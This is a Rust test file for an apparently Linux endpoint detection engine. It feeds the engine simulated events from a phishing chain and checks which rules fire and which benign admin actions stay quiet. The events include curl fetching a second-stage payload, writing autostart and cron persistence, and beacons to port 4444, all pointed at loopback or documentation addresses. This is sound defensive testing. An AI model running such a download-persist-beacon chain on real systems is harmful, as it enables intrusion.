//! The story's events: what must be seen, and with which severity. And quiet everyday work.

use hinomi_detect::content;
use hinomi_model::{DetectionStatus, Event, Severity, Table, Timestamp};

fn process(image: &str, command: &str, parent: &str, parent_command: &str) -> Event {
    let name = |path: &str| path.rsplit('/').next().unwrap_or_default().to_owned();
    let mut event = Event::new(Table::DeviceProcessEvents, Timestamp::from_micros(1));
    event.set("ActionType", "ProcessCreated").set("AccountName", "hanako");
    event.set("FolderPath", image).set("FileName", name(image)).set("ProcessCommandLine", command);
    event.set("InitiatingProcessFolderPath", parent).set("InitiatingProcessFileName", name(parent));
    event.set("InitiatingProcessCommandLine", parent_command);
    event
}

fn by(mut event: Event, image: &str, command: &str) -> Event {
    event.set("InitiatingProcessFolderPath", image).set("InitiatingProcessCommandLine", command);
    event.set("InitiatingProcessFileName", image.rsplit('/').next().unwrap_or_default());
    event
}

fn file(path: &str, image: &str, command: &str) -> Event {
    let mut event = Event::new(Table::DeviceFileEvents, Timestamp::from_micros(1));
    event.set("ActionType", "FileCreated").set("FolderPath", path);
    by(event, image, command)
}

fn connection(address: &str, port: i64, image: &str, command: &str) -> Event {
    let mut event = Event::new(Table::DeviceNetworkEvents, Timestamp::from_micros(1));
    event.set("ActionType", "ConnectionRequest").set("RemoteIP", address).set("RemotePort", port);
    event.set("RemoteIPType", "Loopback").set("Protocol", "Tcp");
    by(event, image, command)
}

/// Asserts that the rule fires with at least medium severity, named by the end of its path.
#[track_caller]
fn seen(event: &Event, rule: &str) {
    let engine = content::engine();
    let found = engine.evaluate(event);
    let told: Vec<_> =
        found.iter().map(|it| (engine.rule(&it.rule_id).expect("loaded").path.clone(), it.severity)).collect();
    let hit = told.iter().any(|(path, severity)| path.ends_with(rule) && *severity >= Severity::Medium);
    assert!(hit, "{rule} not among {told:?}");
}

#[test]
fn the_story_is_seen() {
    let client = "/usr/lib/thunderbird/thunderbird";
    for folder in ["/home/hanako/Downloads", "/tmp/hinomi-story/home/Downloads"] {
        let script = format!("{folder}/invoice.sh");
        let run = format!("/bin/sh {script}");

        let mut start = process("/usr/bin/dash", &run, client, "thunderbird");
        start.set_additional("ScriptPath", script.as_str());
        seen(&start, "mail-client-starts-shell-or-script.yml");

        let fetch = process(
            "/usr/bin/curl",
            "curl -s -o /tmp/.cache/stage2 http://127.0.0.1:8000/stage2",
            "/usr/bin/dash",
            &run,
        );
        seen(&fetch, "script-downloads-second-stage.yml");

        let autostart = file("/tmp/hinomi-story/home/.config/autostart/update.desktop", "/usr/bin/dash", &run);
        seen(&autostart, "autostart-entry-by-script.yml");
        seen(&file("/var/spool/cron/crontabs/hanako", "/usr/bin/dash", &run), "cron-file-by-script.yml");
    }
    let stage = process(
        "/tmp/.cache/stage2",
        "/tmp/.cache/stage2",
        "/usr/bin/dash",
        "/bin/sh /home/hanako/Downloads/invoice.sh",
    );
    seen(&stage, "hidden-file-run.yml");
    seen(&connection("127.0.0.1", 4444, "/tmp/.cache/stage2", "stage2"), "program-in-temp-folder-connects.yml");
    let hidden = "/home/hanako/.cache/.update/stage2";
    seen(&connection("127.0.0.1", 4444, hidden, "stage2"), "hidden-program-connects.yml");
    let script = "/bin/sh /tmp/.cache/stage2.sh";
    seen(
        &connection("127.0.0.1", 4444, "/usr/bin/python3.11", "python3 /tmp/.cache/stage2.py"),
        "script-in-temp-folder-connects.yml",
    );
    seen(&connection("203.0.113.5", 4444, "/usr/bin/bash", script), "shell-connects-to-network.yml");

    let beacon = process(
        "/usr/bin/curl",
        "curl -s -m 2 -o /dev/null http://127.0.0.1:4444/beacon",
        "/usr/bin/dash",
        "/bin/sh /tmp/hinomi-story/home/.cache/.update",
    );
    seen(&beacon, "hidden-script-uses-network-tool.yml");

    let mut mail = Event::new(Table::EmailAttachmentInfo, Timestamp::from_micros(1));
    mail.set("FileName", "invoice.sh").set("RecipientEmailAddress", "hanako@corp.example");
    assert!(mail.set_additional("ParentSHA256", "ab".repeat(32)));
    seen(&mail, "program-inside-archive.yml");
}

#[test]
fn the_storys_own_machinery_is_not_seen() {
    let client = "/tmp/hinomi-story/home/bin/thunderbird";
    let engine = content::engine();
    for event in [
        process(client, client, "/usr/bin/setpriv", "setpriv --reuid user01"),
        connection("127.0.0.1", 41143, client, client),
        file("/tmp/hinomi-story/home/Downloads/invoice.sh", client, client),
        process("/tmp/build/debug/hinomi-sensor", "hinomi-sensor run --data x", "/usr/bin/nsenter", "nsenter"),
        connection("127.0.0.1", 41144, "/tmp/build/debug/hinomi-sensor", "hinomi-sensor run --data x"),
    ] {
        let found: Vec<_> = engine.evaluate(&event).into_iter().map(|it| it.title.en).collect();
        assert!(found.is_empty(), "{found:?} on {event:?}");
    }
}

#[test]
fn a_sensors_own_detection_keeps_its_status() {
    let engine = content::engine();
    let rule = &engine.rules()[0];
    for (word, status) in [
        ("prevented", DetectionStatus::Prevented),
        ("blocked", DetectionStatus::Blocked),
        ("failed", DetectionStatus::Failed),
        ("nonsense", DetectionStatus::Detected),
    ] {
        let mut event = Event::new(Table::DeviceEvents, Timestamp::from_micros(1));
        event.set("ActionType", "HinomiDetection");
        event.set_additional("RuleId", rule.id.as_str());
        event.set_additional("DetectionStatus", word);
        let [detection] = engine.evaluate(&event).try_into().expect("one");
        assert_eq!((detection.rule_id, detection.status), (rule.id.clone(), status));
    }
}

#[test]
fn an_administrators_day_is_quiet() {
    let quiet = [
        process("/usr/bin/apt-get", "apt-get upgrade -y", "/usr/bin/sudo", "sudo apt-get upgrade -y"),
        process(
            "/usr/bin/dash",
            "/bin/sh /var/lib/dpkg/info/cron.postinst configure",
            "/usr/bin/dpkg",
            "dpkg --configure cron",
        ),
        process("/usr/bin/systemctl", "systemctl restart nginx", "/usr/bin/bash", "-bash"),
        process(
            "/usr/bin/systemctl",
            "systemctl reload rsyslog",
            "/usr/bin/dash",
            "/bin/sh /usr/lib/rsyslog/rsyslog-rotate",
        ),
        process("/usr/bin/vim", "vim /etc/ssh/sshd_config", "/usr/bin/bash", "-bash"),
        process("/usr/bin/tail", "tail -n 100 /var/log/syslog", "/usr/bin/bash", "-bash"),
        process("/usr/bin/rm", "rm -rf /tmp/build-1234", "/usr/bin/make", "make clean"),
        process(
            "/usr/bin/curl",
            "curl -fsS https://deb.example.org/key.gpg -o /etc/apt/keyrings/k.gpg",
            "/usr/bin/bash",
            "-bash",
        ),
        process(
            "/usr/bin/tar",
            "tar czf /var/backups/etc.tar.gz /etc",
            "/usr/bin/dash",
            "/bin/sh /etc/cron.daily/backup",
        ),
        process(
            "/usr/bin/rsync",
            "rsync -a /home/ backup@10.0.0.9:/srv/backup/",
            "/usr/bin/dash",
            "/bin/sh -c /usr/local/sbin/backup",
        ),
        process("/usr/bin/chmod", "chmod 0644 /etc/cron.d/backup", "/usr/bin/bash", "-bash"),
        process("/usr/bin/gcc", "gcc -O2 -o a a.c", "/usr/bin/make", "make"),
        process("/tmp/go-build77/b001/exe/main", "/tmp/go-build77/b001/exe/main", "/usr/bin/go", "go run ."),
        process("/usr/bin/git", "git push origin main", "/usr/bin/bash", "-bash"),
        process("/usr/bin/ssh", "ssh admin@10.0.0.7 uptime", "/usr/bin/bash", "-bash"),
        process(
            "/usr/bin/dash",
            "sh -c 'test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )'",
            "/usr/sbin/cron",
            "cron",
        ),
        process(
            "/usr/bin/python3.11",
            "/usr/bin/python3 /usr/bin/unattended-upgrade",
            "/usr/lib/systemd/systemd",
            "/sbin/init",
        ),
        process("/usr/bin/psql", "psql -c 'select 1'", "/usr/bin/bash", "bash backup.sh"),
        process("/usr/bin/thunderbird", "thunderbird", "/usr/bin/gnome-shell", "gnome-shell"),
        file("/etc/cron.d/sysstat", "/usr/bin/dpkg", "dpkg --unpack sysstat.deb"),
        file("/etc/passwd", "/usr/sbin/useradd", "useradd -m taro"),
        file("/home/hanako/Downloads/report.pdf", "/usr/lib/firefox-esr/firefox-esr", "firefox-esr"),
        file("/home/hanako/.bashrc", "/usr/bin/vim", "vim .bashrc"),
        file("/tmp/tmp.a1", "/usr/bin/mktemp", "mktemp"),
        connection("10.0.0.2", 53, "/usr/lib/systemd/systemd-resolved", "systemd-resolved"),
        connection("10.0.0.9", 5432, "/usr/bin/python3.11", "python3 app.py"),
        connection("203.0.113.20", 443, "/usr/lib/apt/methods/https", "/usr/lib/apt/methods/https"),
        connection("203.0.113.20", 443, "/home/hanako/.cargo/bin/cargo", "cargo update"),
        connection("127.0.0.1", 25, "/usr/sbin/sendmail", "sendmail -t"),
    ];
    let engine = content::engine();
    for event in &quiet {
        let found = engine.evaluate(event);
        assert!(found.is_empty(), "{:?} on {event:?}", found.iter().map(|it| &it.title.en).collect::<Vec<_>>());
    }
}
